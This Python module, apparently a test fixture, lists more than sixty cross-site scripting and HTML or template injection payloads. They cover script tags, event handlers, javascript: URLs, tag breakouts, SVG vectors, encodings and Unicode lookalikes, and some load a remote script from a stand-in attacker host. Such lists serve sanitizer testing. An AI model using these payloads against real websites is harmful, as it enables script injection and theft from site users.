"""Sixty ways to bring a script, a foreign address or a template's code into a page. None does so in words."""

import re
from itertools import pairwise

CALL = "pwned()"
AWAY = "//evil.example/x"

PAYLOADS = (
    # elements
    f"<script>{CALL}</script>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    f"<script src={AWAY}></script>",
    f"<script\n>{CALL}</script\n>".replace("\n", "\t"),
    f"<script/x>{CALL}</script/x>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<img src=x onerror={CALL}>",
    f"<img src={AWAY}>",
    f"<img/src=x/onerror={CALL}>",
    f"<image src=x onerror={CALL}>",
    f"<body onload={CALL}>",
    f"<iframe src=javascript:{CALL}></iframe>",
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    f"<object data={AWAY}></object>",
    f"<embed src={AWAY}>",
    f"<link rel=stylesheet href={AWAY}>",
    f"<meta http-equiv=refresh content='0;{AWAY}'>",
    f"<base href={AWAY}>",
    f"<style>@import '{AWAY}'</style>",
    f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}>",
    f"<details open ontoggle={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<audio src=x onerror={CALL}>",
    f"<marquee onstart={CALL}>",
    f"<form action=javascript:{CALL}><button>x</button>",
    f"<a href=javascript:{CALL} autofocus onfocus={CALL}>x</a>",
    f"<template><script>{CALL}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<dialog open oncancel={CALL}>",
    # SVG and MathML
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><a href=javascript:{CALL}><text y=9>x</text></a></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><image href={AWAY}></image></svg>",
    f"<math><mtext><img src=x onerror={CALL}></mtext></math>",
    f"<svg><foreignObject><img src=x onerror={CALL}></foreignObject></svg>",
    # out of an attribute, a text area, a title, a comment, a script
    f'" onmouseover={CALL} autofocus onfocus={CALL} x="',
    f"' onmouseover={CALL} autofocus onfocus={CALL} x='",
    f'"><img src=x onerror={CALL}>',
    f"'><img src=x onerror={CALL}>",
    f'"/><svg/onload={CALL}>',
    f"</textarea><script>{CALL}</script>",
    f"</title><script>{CALL}</script>",
    f"</style><script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"--><script>{CALL}</script>",
    f"<!--><img src=x onerror={CALL}>-->",
    f"]]><img src=x onerror={CALL}>",
    f"</option></select><img src=x onerror={CALL}>",
    # addresses
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}//",
    f"data:text/html,<script>{CALL}</script>",
    f"java\tscript:{CALL}",
    # of a template, an entity, a script's string
    "{{ 7 * 191 }}${7 * 191}{% raw %}#{7 * 191}",
    f"{{{{constructor.constructor('{CALL}')()}}}}",
    f"&lt;script&gt;{CALL}&lt;/script&gt;&#60;img src=x onerror={CALL}&#62;",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"';{CALL};//`;{CALL};//\\';{CALL};//",
    # letters that become others
    f"＜script＞{CALL}＜/script＞",
    f"≮script≯{CALL}\u200b<\u200bscript>",
    f"ʺ＞<İMG src=x onerror={CALL}>",
)
MOST = 190  # characters of a title


def chunks(longest: int = MOST) -> list[str]:
    """All of them in pieces of that length, each payload whole."""
    found = [""]
    for payload in (re.sub(r"\t", " ", one) for one in PAYLOADS):
        if len(found[-1]) + len(payload) + 1 > longest:
            found.append("")
        found[-1] = f"{found[-1]} {payload}".strip()
    return found


ALL = " ".join(chunks())
TITLES = chunks()
HALVES = chunks(1800)
assert len(PAYLOADS) > 60 and all(len(one) <= MOST for one in TITLES) and list(pairwise(TITLES))
